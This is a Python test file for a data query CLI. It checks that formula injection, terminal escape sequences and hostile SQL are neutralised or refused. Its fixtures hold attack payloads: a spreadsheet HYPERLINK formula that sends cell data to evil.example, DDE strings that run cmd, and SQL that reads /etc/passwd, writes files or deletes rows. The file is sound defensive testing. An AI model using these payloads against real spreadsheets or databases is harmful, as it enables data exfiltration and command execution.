"""`din query` and `din tables` as a report author or an attacker runs them (real subprocesses) over a
real published version in which partners wrote formulas and control characters."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys

import pytest

from tests.app.test_cli import din
from tests.support.network import Network, write_network
from tests.support.pipeline import run

pytestmark = [pytest.mark.usefixtures("prefect_server"), pytest.mark.xdist_group("prefect")]

#: What partners typed as answers (question id -> answer), and what a spreadsheet must be given.
ANSWERS = {
    "Q3": ('=HYPERLINK("http://evil.example/?"&A1,"click")', '\'=HYPERLINK("http://evil.example/?"&A1,"click")'),
    "Q4": ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    "Q5": ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    "Q6": (" =1+1", " =1+1"),  # a leading space: text to a spreadsheet, and kept as delivered
    "Q7": ("-5", "-5"),  # a plain number is never touched
    "Q8": ("-2+3", "'-2+3"),
}
TERMINAL_TRICK = "Fine\x1b]0;pwned\x07\x1b[2J\u202eevil"


@pytest.fixture(scope="module")
def network(tmp_path_factory: pytest.TempPathFactory) -> Network:
    network = write_network(tmp_path_factory.mktemp("query"))
    lines = ["panel_id,workshop_id,panellist_ref,question_id,question_text,answer"]
    lines += [f'p1,W1,P2,{q},Anything?,"{a.replace(chr(34), chr(34) * 2)}"' for q, (a, _) in ANSWERS.items()]
    lines.append(f"p1,W1,P3,Q9,Anything?,{TERMINAL_TRICK}")
    network.deliver("university/responses-w1b.csv", "\n".join(lines) + "\n")
    summary = run(network)
    assert summary["outcome"] == "succeeded" and summary["rows_quarantined"] == 0
    return network


def query(network: Network, sql: str, *options: str) -> subprocess.CompletedProcess[str]:
    return din("query", "--config", str(network.config), *options, sql)


def _answers_sql() -> str:
    return "SELECT question_id, answer FROM restricted.responses WHERE question_id >= 'Q3' ORDER BY question_id"


def test_csv_output_escapes_every_formula_partners_wrote(network: Network) -> None:
    result = query(network, _answers_sql(), "--format", "csv")
    assert result.returncode == 0, result.stderr
    rows = list(csv.reader(io.StringIO(result.stdout)))
    assert rows[0] == ["question_id", "answer"]
    got = {q: a for q, a in rows[1:]}
    assert {q: got[q] for q in ANSWERS} == {q: safe for q, (_, safe) in ANSWERS.items()}


def test_json_output_escapes_formulas_and_keeps_numbers(network: Network) -> None:
    result = query(network, _answers_sql() + "", "--format", "json")
    assert result.returncode == 0, result.stderr
    got = {r["question_id"]: r["answer"] for r in json.loads(result.stdout)}
    assert {q: got[q] for q in ANSWERS} == {q: safe for q, (_, safe) in ANSWERS.items()}
    nested = query(network, "SELECT ['=1+1', 'ok'] AS l, {'k': '@x'} AS s, -5 AS n, '=x' AS \"=name\"", "--format=json")
    assert json.loads(nested.stdout) == [{"l": ["'=1+1", "ok"], "s": {"k": "'@x"}, "n": -5, "'=name": "'=x"}]


def test_csv_output_writes_lists_as_json_text_and_escapes_column_names(network: Network) -> None:
    result = query(network, "SELECT ['=1+1'] AS l, 1 AS \"=name\"", "--format", "csv")
    assert result.returncode == 0, result.stderr
    assert list(csv.reader(io.StringIO(result.stdout))) == [["l", "'=name"], ['["=1+1"]', "1"]]
    empty = query(network, "SELECT org_id FROM organisations WHERE false", "--format", "csv")
    assert empty.stdout.splitlines() == ["org_id"]  # no rows: the header still says which columns


def test_table_output_shows_control_characters_as_escapes(network: Network) -> None:
    result = query(network, "SELECT answer FROM restricted.responses WHERE question_id = 'Q9'")
    assert result.returncode == 0, result.stderr
    assert "\x1b" not in result.stdout and "\u202e" not in result.stdout and "\x07" not in result.stdout
    assert "Fine\\x1b]0;pwned\\x07\\x1b[2J\\u202eevil" in result.stdout
    assert result.stdout.rstrip().endswith("1 row")


def test_table_output_shows_the_first_rows_and_says_how_many(network: Network) -> None:
    result = query(network, "SELECT range AS n FROM range(120)")
    assert result.returncode == 0, result.stderr
    assert result.stdout.rstrip().endswith("120 rows, first 50 shown (--format csv for all)")
    assert "│ 49  │" in result.stdout and "│ 50  │" not in result.stdout
    everything = query(network, "SELECT range AS n FROM range(120)", "--format", "csv")
    assert len(everything.stdout.splitlines()) == 121


ATTACKS = {
    "replace a published table": "COPY (SELECT 42) TO '{current}/open/projects.parquet'",
    "write a file anywhere": "COPY (SELECT 42) TO '{root}/x.csv'",
    "read a system file": "SELECT * FROM read_csv('/etc/passwd')",
    "read any text": "SELECT * FROM read_text('/etc/hostname')",
    "attach the warehouse": "ATTACH '{data}/warehouse.duckdb' AS w",
    "raw landing copy": "SELECT content FROM read_blob('{data}/landing/objects/*/*.csv')",
    "delete": "DELETE FROM organisations",
}


@pytest.mark.parametrize("attack", sorted(ATTACKS))
def test_attacks_fail_with_one_line_and_change_nothing(network: Network, attack: str) -> None:
    current = network.data_dir / "published" / "current"
    before = {p: p.read_bytes() for p in current.rglob("*") if p.is_file()}
    sql = ATTACKS[attack].format(root=network.root, data=network.data_dir, current=current)
    result = query(network, sql)
    assert result.returncode == 2
    assert result.stdout == ""
    assert len(result.stderr.strip().splitlines()) == 1, result.stderr
    assert result.stderr.startswith("din: ")
    assert "Traceback" not in result.stderr and "morag" not in result.stderr.lower()
    assert {p: p.read_bytes() for p in current.rglob("*") if p.is_file()} == before
    assert not (network.root / "x.csv").exists()


def test_errors_while_fetching_are_one_line(network: Network) -> None:
    failing = "SELECT CASE WHEN range > 20000 THEN error('boom') END FROM range(50000)"
    result = query(network, failing, "--format", "csv")
    assert result.returncode == 2
    assert result.stderr.strip().splitlines() == ["din: Invalid Input Error: boom"]
    slow = query(network, "SELECT count(*) FROM range(1000000000000)", "--timeout", "1")
    assert slow.returncode == 2
    assert slow.stderr.strip() == "din: the query was stopped after 1 s (--timeout)"


def test_tier_decides_what_a_reader_sees(network: Network) -> None:
    tables = din("tables", "--config", str(network.config), "--tier", "open")
    assert tables.returncode == 0, tables.stderr
    listed = {line.split()[0] for line in tables.stdout.splitlines()[1:]}
    assert listed == {"open"}
    hidden = query(network, "SELECT count(*) FROM restricted.responses", "--tier", "open")
    assert hidden.returncode == 2
    assert hidden.stderr.strip() == "din: the restricted tier is not visible to this reader (it sees open)"
    everything = din("tables", "--config", str(network.config))
    assert {line.split()[0] for line in everything.stdout.splitlines()[1:]} == {"open", "restricted", "ops"}


def test_output_cut_short_by_a_pipe_is_not_an_error(network: Network) -> None:
    shell = (
        f"{sys.executable} -m app.cli query --config {network.config} --format csv "
        "'SELECT range FROM range(1000000)' | head -n 2"
    )
    result = subprocess.run(["bash", "-o", "pipefail", "-c", shell], capture_output=True, text=True, timeout=120)
    assert result.stdout.splitlines() == ["range", "0"]
    assert result.returncode == 0, result.stderr
    assert "Traceback" not in result.stderr and "BrokenPipe" not in result.stderr
